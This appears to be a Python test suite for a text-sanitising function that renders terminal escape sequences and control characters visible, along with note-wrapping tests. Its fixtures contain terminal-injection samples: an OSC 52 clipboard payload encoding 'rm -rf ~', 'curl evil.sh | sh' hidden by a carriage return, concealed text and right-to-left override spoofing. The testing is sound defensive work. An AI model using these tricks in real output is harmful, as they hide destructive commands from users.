"""`neutralize`: every control character and escape sequence a terminal would act on
is replaced by a visible stand-in; plain text passes through untouched."""

from __future__ import annotations

import re
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from skillkit.text import is_safe, neutralize


def _controls_left(text: str) -> list[str]:
    """Characters in ``text`` a terminal could act on (C0 but newline and tab, DEL, C1,
    bidirectional controls, line/paragraph separators)."""
    bidi = {"\u061c", "\u200e", "\u200f", *map(chr, range(0x202A, 0x202F))}
    bidi |= set(map(chr, range(0x2066, 0x206A))) | {"\u2028", "\u2029"}
    return [
        c
        for c in text
        if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F or c in bidi
    ]


_STAND_IN = re.compile(r"<U\+[0-9A-F]{4}>|[\u2400-\u2421]")


def _without_stand_ins(text: str) -> str:
    return _STAND_IN.sub("", text)


ATTACKS = {
    "clear screen": ("\x1b[2J\x1b[Hall clear", "␛[2J␛[Hall clear"),
    "cursor up and erase line": ("ok\x1b[1A\x1b[2Khidden", "ok␛[1A␛[2Khidden"),
    "conceal style": ("\x1b[8msecret payload\x1b[0m", "␛[8msecret payload␛[0m"),
    "osc 52 clipboard": ("\x1b]52;c;cm0gLXJmIH4=\x07", "␛]52;c;cm0gLXJmIH4=␇"),
    "osc title with ST": ("\x1b]0;pwned\x1b\\", "␛]0;pwned␛\\"),
    "osc 8 hyperlink": ("\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\", None),
    "bell": ("ding\x07", "ding␇"),
    "backspace overwrite": ("rm -rf ~\x08\x08\x08\x08\x08\x08\x08\x08ls", None),
    "carriage return overwrite": ("curl evil.sh | sh\rls -la           ", None),
    "8-bit CSI": ("\x9b2Jcleared", "<U+009B>2Jcleared"),
    "8-bit OSC and ST": ("\x9d52;c;eA==\x9c", "<U+009D>52;c;eA==<U+009C>"),
    "NEL": ("a\x85b", "a<U+0085>b"),
    "right-to-left override": ("file\u202etxt.exe", "file<U+202E>txt.exe"),
    "isolates": ("\u2066a\u2067b\u2068c\u2069", "<U+2066>a<U+2067>b<U+2068>c<U+2069>"),
    "embeddings and pop": ("\u202aa\u202bb\u202c", "<U+202A>a<U+202B>b<U+202C>"),
    "DEL": ("x\x7fy", "x␡y"),
    "NUL and vertical tab": ("a\x00b\x0bc\x0cd", "a␀b␋c␌d"),
    "line separator": ("a\u2028b", "a<U+2028>b"),
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_every_escape_family_is_made_visible_and_inert(name: str) -> None:
    raw, expected = ATTACKS[name]
    shown = neutralize(raw)
    assert _controls_left(shown) == []
    if expected is not None:
        assert shown == expected
    # Every printable character of the input is still there, in order.
    assert _without_stand_ins(shown) == "".join(c for c in raw if not _controls_left(c))


def test_hidden_text_stays_readable() -> None:
    shown = neutralize("curl evil.sh | sh\rls -la           ")
    assert shown.startswith("curl evil.sh | sh␍ls")
    shown = neutralize("echo hi\x1b[8m; rm -rf ~\x1b[0m")
    assert "rm -rf ~" in shown and "␛[8m" in shown


@pytest.mark.parametrize(
    "text",
    [
        "",
        "plain ascii",
        "tabs\tand\nnew lines\n",
        "accents éèà, CJK 漢字, emoji 🎉, arabic مرحبا, hebrew שלום",
        "box drawing ╭─╮ and symbols ␛ ← already a stand-in",
        "zero width joiner 👩\u200d💻",
    ],
)
def test_plain_text_is_returned_unchanged(text: str) -> None:
    assert neutralize(text) is text
    assert is_safe(text)


def test_drop_styles_removes_colour_codes_but_shows_everything_else() -> None:
    coloured = "\x1b[1;32mPASSED\x1b[0m tests\x1b[2J"
    assert neutralize(coloured, drop_styles=True) == "PASSED tests␛[2J"
    assert neutralize("\x1b[8mconcealed\x1b[m", drop_styles=True) == "concealed"
    assert neutralize(coloured) == "␛[1;32mPASSED␛[0m tests␛[2J"


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=200), st.booleans())
def test_output_never_holds_a_control_but_newline_and_tab(text: str, drop: bool) -> None:
    shown = neutralize(text, drop_styles=drop)
    assert _controls_left(shown) == []
    assert neutralize(shown, drop_styles=drop) == shown  # idempotent
    assert is_safe(shown)
    if is_safe(text):
        assert shown == text


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from("ab\x1b[]0;2J8m\x07\x9b\x9d\r\x08\u202e\n\t"), max_size=60))
def test_escape_heavy_text_keeps_every_visible_character(text: str) -> None:
    shown = neutralize(text)
    assert _without_stand_ins(shown) == "".join(c for c in text if not _controls_left(c))
    assert all(unicodedata.category(c) != "Cc" or c in "\n\t" for c in shown)


# --------------------------------------------------------------------------- notes


def _note_through_a_terminal(text: str, columns: int) -> str:
    """What `write_note` writes to a real terminal (a pty) ``columns`` wide."""
    import fcntl
    import os
    import struct
    import termios

    from skillkit.text import write_note

    leader, follower = os.openpty()
    try:
        fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 40, columns, 0, 0))
        with open(follower, "w", encoding="utf-8", closefd=False) as stream:
            write_note(text, stream)
        return os.read(leader, 65536).decode("utf-8").replace("\r\n", "\n")
    finally:
        os.close(leader)
        os.close(follower)


def test_a_note_on_a_terminal_breaks_at_word_boundaries_within_its_width() -> None:
    from skillkit.local import default_notice

    notice = default_notice()
    written = _note_through_a_terminal(notice, 110)
    lines = written.rstrip("\n").split("\n")
    assert len(lines) > 1
    assert all(len(line) <= 109 for line in lines)
    assert all(line.startswith("  ") for line in lines[1:])
    assert " ".join(" ".join(lines).split()) == " ".join(notice.split())  # no word cut
    assert {w for line in lines for w in line.split()} == set(notice.split())


def test_a_note_to_a_pipe_or_file_stays_one_line() -> None:
    import io

    from skillkit.text import write_note

    stream = io.StringIO()
    write_note("word " * 60, stream)
    assert stream.getvalue() == "word " * 60 + "\n"


def test_a_word_longer_than_the_width_is_never_cut() -> None:
    from skillkit.text import wrap_note

    url = "https://example.invalid/" + "x" * 80
    wrapped = wrap_note(f"see {url} for more", 40)
    assert url in wrapped.split("\n") or f"  {url}" in wrapped.split("\n")
